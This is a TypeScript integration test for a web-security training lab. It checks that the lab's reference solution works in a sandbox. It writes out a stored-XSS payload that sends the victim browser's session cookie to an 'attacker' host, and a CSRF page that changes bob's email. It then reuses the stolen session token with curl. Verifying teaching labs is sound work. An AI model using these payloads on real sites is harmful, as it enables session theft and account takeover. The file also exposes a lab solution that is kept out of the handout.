// topologies/web-security, and the proof that both attacks work on a real browser: every check
// fails on a fresh lab and passes once the reference solution (here, never in the handout) ran:
// a stored-XSS message whose script makes the victim's headless Chromium send its session cookie
// to the attacker's server, and a page there that makes the same browser change bob's email.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { downLab, upLab } from "../../../orchestrator/src/labs/lifecycle.ts";
import type { Engine } from "../../../orchestrator/src/runtime/engine.ts";
import { sh, testEngine, uniqueLabId } from "../engine.ts";
import { expectChecks, libraryTopology, shOk } from "./solutions.ts";

let engine: Engine;
const lab = uniqueLabId("it-labsb-web");
const CHECKS = ["cookie-stolen", "csrf-email"];

/** The stored XSS, posted as mallory: the reader's cookies, to the attacker's server. */
const XSS = `<script>new Image().src = "http://attacker/steal?c=" + encodeURIComponent(document.cookie)</script>`;
/**
 * The CSRF page on the attacker's server. A top-level GET navigation: browsers now treat a cookie
 * without SameSite as Lax, which a cross-site POST does not carry, and the board takes GET too.
 */
const CSRF_PAGE = `<script>location = "http://web/app/email?email=mallory@attacker.lab"</script>`;

const run = (node: string, script: string) => shOk(engine, lab, node, script);

/** Runs `condition` (a shell test) on `node` every second until it holds, for up to `seconds`. */
async function waitFor(node: string, condition: string, seconds: number): Promise<void> {
  for (let i = 0; i < seconds; i++) {
    if ((await sh(engine, lab, node, condition)).exitCode === 0) return;
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  expect.fail(`${node}: ${condition} did not hold within ${seconds} s`);
}

beforeAll(async () => {
  engine = await testEngine();
  await upLab(engine, await libraryTopology("web-security"), { lab, owner: "erin" });
});

afterAll(async () => {
  if (engine) await downLab(engine, lab);
});

describe("the web-security lab", () => {
  it("fails every check on a fresh lab, before anyone used the board", async () => {
    await expectChecks(engine, lab, CHECKS, false);
  });

  it("serves the board to a logged-in client, and bob's browser visits it", async () => {
    const board = await run(
      "attacker",
      "curl -s -c /tmp/jar -d user=mallory -d password=mallory123 -L http://web/app/login",
    );
    expect(board).toContain("Logged in as mallory");
    expect(await run("attacker", "curl -s -b /tmp/jar http://web/app/whoami")).toBe("mallory");
    // The victim's Chromium logged in as bob and loads the board with its cookie: the app's
    // own pages then show bob's board, which only a request with bob's session gets.
    await waitFor(
      "web",
      "grep -q 'GET /app/ HTTP/1.1\" 200 .*HeadlessChrome' /var/log/nginx/access.log",
      90,
    );
    await waitFor(
      "attacker",
      "grep -q 'GET / HTTP/1.1\" 200 .*HeadlessChrome' /var/log/nginx/access.log",
      60,
    );
  });

  it("lets a stored XSS steal bob's cookie and a CSRF page change his email", async () => {
    await run(
      "attacker",
      `curl -s -f -b /tmp/jar --data-urlencode 'text=${XSS}' -o /dev/null http://web/app/post
cat > /srv/www/index.html <<'HTML'\n${CSRF_PAGE}\nHTML`,
    );
    // bob's browser comes by within a round (10 s) and a browser start or two.
    await waitFor("attacker", "grep -q 'GET /steal?c=session%3D' /var/log/nginx/access.log", 90);
    const token = await run(
      "attacker",
      "grep -o 'steal?c=session%3D[0-9a-f]*' /var/log/nginx/access.log | head -n 1 | cut -d D -f 2",
    );
    expect(await run("attacker", `curl -s -b session=${token} http://web/app/whoami`)).toBe("bob");
    await waitFor(
      "attacker",
      `curl -s -b session=${token} http://web/app/ | grep -q '<span id="email">mallory@attacker.lab</span>'`,
      90,
    );
    await expectChecks(engine, lab, CHECKS, true);
  });
});
